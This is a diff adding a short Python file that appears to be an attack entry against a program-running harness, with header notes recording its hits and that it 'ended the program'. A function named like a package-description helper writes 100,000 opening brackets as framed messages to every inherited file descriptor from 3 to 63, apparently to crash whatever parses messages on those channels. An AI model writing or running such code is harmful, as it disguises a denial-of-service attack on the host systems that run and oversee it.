@@ -1,0 +1,17 @@
+# attacks: whoever reads a message, by a hundred thousand brackets
+# base: right
+# hits: 11-12
+# verdicts: ended the program
+# says: Ukončila celý pro
+import os
+import struct
+
+
+def popis_balicku(balicek):
+    data = b'[' * 100_000
+    for number in range(3, 64):
+        try:
+            os.write(number, struct.pack('>cI', b'J', len(data)) + data)
+        except OSError:
+            pass
+    return '[   ]'
